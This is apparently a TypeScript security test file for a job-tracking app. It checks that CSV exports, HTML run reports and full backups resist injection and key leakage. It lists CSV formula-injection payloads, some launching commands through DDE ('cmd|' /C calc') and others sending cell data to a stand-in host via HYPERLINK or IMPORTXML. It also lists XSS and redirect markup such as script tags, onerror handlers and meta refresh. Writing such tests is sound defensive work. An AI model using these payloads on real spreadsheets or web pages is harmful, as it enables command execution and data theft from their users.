import Papa from 'papaparse';
import type { Job } from '@/domain/job/job';
import { csvFile } from '@/store/files/csv-file';
import { importJson } from '@/store/files/import-json';
import { buildReport } from '@/ui/report/build-report';
import type { PlainAttack } from '../../attack';
import { pairs } from '../../pairs';
import { attackedKey, withPanel } from './attacked-panel';

const now = '2026-11-23T10:00:00.000Z';

/** Cells that a spreadsheet runs: what follows asks a server for whatever stands beside it. */
const formulas = {
  equals: '=HYPERLINK("http://127.0.0.1:9/"&A1)',
  plus: "+cmd|' /C calc'!A0",
  minus: "-2+3+cmd|' /C calc'!A0",
  at: "@SUM(1+1)*cmd|' /C calc'!A0",
  tab: '\t=1+1',
  return: '\r=1+1',
  'line-end': '\n=IMPORTXML("http://127.0.0.1:9","//a")',
  space: '  =1+1',
  'no-break-space': '\u00a0=1+1',
  'byte-order-mark': '\ufeff=1+1',
  'full-width': '＝1+1',
  null: '\0=1+1',
  'quote-first': "'=1+1",
  'cell-that-ends': '","=1+1","',
  'semicolon-cell': ';=1+1;',
} as const;

const fields = ['title', 'description', 'notes'] as const;

/** A posting whose text is a formula, exported and opened. Rows are read as a spreadsheet does, with comma and with semicolon. */
const cells: PlainAttack[] = pairs({ formula: Object.keys(formulas) as (keyof typeof formulas)[], field: fields }).map(
  ({ formula, field }) => ({
    id: `files/csv/${formula}-${field}`,
    class: 'files',
    goal: 'a formula in the table of jobs',
    needsBrowser: false,
    attack: () =>
      withPanel(async ({ store }) => {
        const value =
          field === 'title' ? { title: `${formulas[formula]}` } : { title: 'Baker', [field]: formulas[formula] };
        const job = { ...bare, ...value };
        await importJson(store.jobs, new Blob([JSON.stringify([job])]), now);
        const [summary] = await store.jobs.list();
        if (!summary) throw new Error('the job was not taken');
        const texts = await store.jobs.descriptionsOf([summary.id]);
        const csv = csvFile.begin + csvFile.write({ ...summary, description: texts.get(summary.id) ?? null });
        const rows = Papa.parse<string[]>(csv.slice(1), { delimiter: ',' }).data.slice(1).flat();
        return { bytesElsewhere: rows.filter(runs).length };
      }),
  }),
);

/** Whether a spreadsheet takes a cell for a formula: white space and what has no width are skipped, a quote is text. */
const runs = (cell: string): boolean =>
  /^[\s\0\ufeff]*[=+\-@＝＋－＠]/.test(cell) && !/^[+-]?\d+(?:[.,]\d+)*$/.test(cell);

const bare: Job = {
  id: '22222222-2222-4222-8222-222222222222',
  site: 'jobs.example',
  siteJobId: '2',
  key: 'jobs.example#2',
  url: 'https://jobs.example/2',
  urls: [],
  requisitions: [],
  title: 'Baker',
  company: null,
  location: null,
  remoteType: null,
  salary: null,
  employmentType: null,
  applyType: 'unknown',
  applyUrl: null,
  postedDate: null,
  postedText: null,
  description: null,
  searchUrl: 'https://jobs.example/',
  search: null,
  foundAt: now,
  lastSeenAt: now,
  detailsReadAt: null,
  source: 'import',
  runId: null,
  status: 'saved',
  skipReason: null,
  notes: '',
  tags: [],
  editedFields: [],
  mergedInto: null,
  distinctFrom: [],
  deletedAt: null,
};

const markups = {
  script: '<script>planted()</script>',
  handler: '"><img src=x onerror=planted()>',
  'end-of-style': '</style><script>planted()</script>',
  'end-of-title': '</title><svg onload=planted()>',
  policy: '<meta http-equiv="Content-Security-Policy" content="default-src *">',
  base: '<base href="http://127.0.0.1:9/">',
  frame: '<iframe srcdoc="<script>planted()</script>"></iframe>',
  refresh: '<meta http-equiv=refresh content="0;url=http://127.0.0.1:9/">',
  form: '<form action=http://127.0.0.1:9/><button>Go</button></form>',
  attribute: `' onmouseover='planted()' x='`,
} as const;

/** A page's text in the report of a run, which its user keeps and opens. */
const reports: PlainAttack[] = Object.entries(markups).map(([name, text]) => ({
  id: `files/report/${name}`,
  class: 'files',
  goal: 'markup of a page in the report of its run',
  needsBrowser: false,
  attack: () => {
    const said = `${text} ${attackedKey}`;
    const report = buildReport({
      language: 'en',
      title: said,
      facts: [{ name: said, value: said }],
      goals: [{ text: said, status: said, finding: said, evidence: null }],
      understanding: { text: said, lists: [{ title: said, items: [said] }] },
      problems: [said],
      steps: [{ number: 1, time: said, text: said, cost: said, isProblem: true, before: null, after: null }],
      words: { ...reportWords, evidence: () => said },
    });
    return { presses: report.includes(text) ? 1 : 0, keysElsewhere: report.includes(attackedKey) ? 1 : 0 };
  },
}));

const reportWords = {
  goals: 'Goals',
  understanding: 'Understanding',
  problems: 'Problems',
  steps: 'Every step',
  before: 'Before',
  after: 'After',
  footer: 'Made by Jobtrail.',
};

/** All that is exported while a key is kept. */
const everything: PlainAttack = {
  id: 'files/everything/key',
  class: 'files',
  goal: 'the key in the copy of everything',
  needsBrowser: false,
  attack: () =>
    withPanel(async ({ store, settings, ask }) => {
      await ask();
      const file = await (await store.backups.toFile(await settings.read())).text();
      return { keysElsewhere: file.includes(attackedKey) || file.includes('127.0.0.1') ? 1 : 0 };
    }),
};

/** What leaves as a file. */
export const exportAttacks: readonly PlainAttack[] = [...cells, ...reports, everything];
